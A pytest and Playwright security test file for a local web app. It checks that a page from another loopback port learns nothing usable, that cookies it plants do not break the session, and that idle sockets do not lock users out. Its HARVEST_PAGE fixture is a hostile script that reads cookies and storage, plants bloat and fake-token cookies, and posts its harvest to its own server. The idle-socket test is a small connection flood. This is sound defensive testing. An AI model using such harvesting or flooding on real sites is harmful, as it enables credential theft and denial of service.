"""Who gets in, in Chromium: a page that another program serves on another port of this host learns
nothing it could use, and its cookies change nothing here; a bookmark without the token says where
to find it; idle sockets beside an open page."""

import http.server
import json
import re
import socket
import threading

import httpx
import pytest

MAIN_PANE = ".pane[data-session='session_main']"

# What a page of another program on this host can try: read what its origin sees, set cookies for
# the host (every port gets them), and call the server directly.
HARVEST_PAGE = """<!doctype html><title>other program</title><script>
const port = %(port)d;
const seen = {cookie: document.cookie, local: JSON.stringify(localStorage),
              session: JSON.stringify(sessionStorage), referrer: document.referrer, href: location.href};
document.cookie = `tavrin_token_${port}=tossed; path=/`;
for (let i = 0; i < 24; i++) document.cookie = `bloat${i}=${"x".repeat(1000)}; path=/`;
const tries = [
  fetch(`http://127.0.0.1:${port}/api/sessions`, {credentials: "include"}).then(r => r.text(), () => "blocked"),
  fetch(`http://127.0.0.1:${port}/api/ws-ticket`, {method: "POST", mode: "no-cors", credentials: "include"})
    .then(() => "sent", () => "blocked"),
  new Promise(done => {
    const ws = new WebSocket(`ws://127.0.0.1:${port}/ws`);
    ws.onopen = () => done("open"); ws.onerror = () => done("refused");
  }),
];
Promise.all(tries).then(results => fetch("/harvest", {method: "POST", body: JSON.stringify({seen, results})}))
  .then(() => { document.title = "harvested"; });
</script>"""


class OtherProgram:
    """A plain server on another loopback port that records everything the browser sends it."""

    def __init__(self, target_port: int):
        self.received: list[str] = []
        page = (HARVEST_PAGE % {"port": target_port}).encode()
        received = self.received

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length).decode("latin-1") if length else ""
                received.append(f"{self.requestline}\n{self.headers}\n{body}")
                return body

            def do_GET(self):
                self._record()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self):
                self._record()
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def other_program(app_server):
    program = OtherProgram(app_server.port)
    yield program
    program.close()


def connected(page):
    page.wait_for_selector("#conn.conn-on")
    page.wait_for_selector(".tab[data-session='connector_inbox']")


def test_a_page_on_another_port_gets_nothing_it_could_replay(open_page, app_server, other_program):
    """Catches a credential the browser hands to another port, and cookies from there that log the
    user out or make the page's requests fail."""
    page = open_page()
    # The user goes there in the same tab (typed, or sent on by a page setting location.href) ...
    page.evaluate("url => { location.href = url; }", other_program.url + "/by-location")
    # Only once it is there: a predicate evaluated while the page is still this app's breaks its CSP.
    page.wait_for_url(other_program.url + "/by-location")
    page.wait_for_function("document.title === 'harvested'")
    # ... and in a tab this page opened.
    with page.context.expect_page() as opened:
        page.evaluate("url => window.open(url)", other_program.url + "/in-a-new-tab")
    opened.value.wait_for_url(other_program.url + "/in-a-new-tab")
    opened.value.wait_for_function("document.title === 'harvested'")

    received = "\n".join(other_program.received)
    assert "/by-location" in received and "/in-a-new-tab" in received and "/harvest" in received
    assert app_server.token not in received
    seen = [json.loads(r.rsplit("\n", 1)[-1]) for r in other_program.received if r.startswith("POST /harvest")]
    assert all(s["results"][0] == "blocked" and s["results"][2] == "refused" for s in seen)
    # Nothing it got lets anyone in.
    for value in set(re.findall(r"[\w-]{16,}", received)):
        assert (
            httpx.get(app_server.http + "/api/sessions", headers={"Authorization": f"Bearer {value}"}).status_code
            == 401
        ), value

    # Back in the first tab, with the tossed cookie and some 24 kB of others for this host: still in.
    page.goto(app_server.http + "/")
    connected(page)
    done_before = page.locator(f"{MAIN_PANE} .line.done").count()
    page.fill("#input", "still there?")
    page.press("#input", "Enter")
    page.locator(f"{MAIN_PANE} .line.done").nth(done_before).wait_for()
    assert page.problems == []


@pytest.mark.parametrize("fragment", ["", "#token=not-the-token"])
def test_an_address_without_the_token_says_where_to_find_it_and_shows_nothing(browser, app_server, fragment):
    """Catches a page that shows data, or nothing useful, to a visitor without the token (an old
    bookmark of the clean address, or a wrong token)."""
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(app_server.http + "/" + fragment)
        note = page.locator("#access-note")
        note.wait_for()
        assert f"{app_server.http}/#token=" in note.text_content()
        assert page.url == app_server.http + "/"
        assert page.locator("#conn.conn-on").count() == 0
        assert page.locator(".tab[data-session='connector_inbox']").count() == 0
        assert page.evaluate("sessionStorage.length") == 0
    finally:
        context.close()


def test_an_open_page_keeps_working_beside_200_idle_sockets(open_page, app_server):
    """Catches idle connections counted against the server's limits, locking every page out."""
    page = open_page()
    idle = [socket.create_connection(("127.0.0.1", app_server.port)) for _ in range(200)]
    try:
        page.reload()
        connected(page)
        done_before = page.locator(f"{MAIN_PANE} .line.done").count()
        page.fill("#input", "hello beside the crowd")
        page.press("#input", "Enter")
        page.locator(f"{MAIN_PANE} .line.done").nth(done_before).wait_for()
    finally:
        for sock in idle:
            sock.close()
    assert page.problems == []
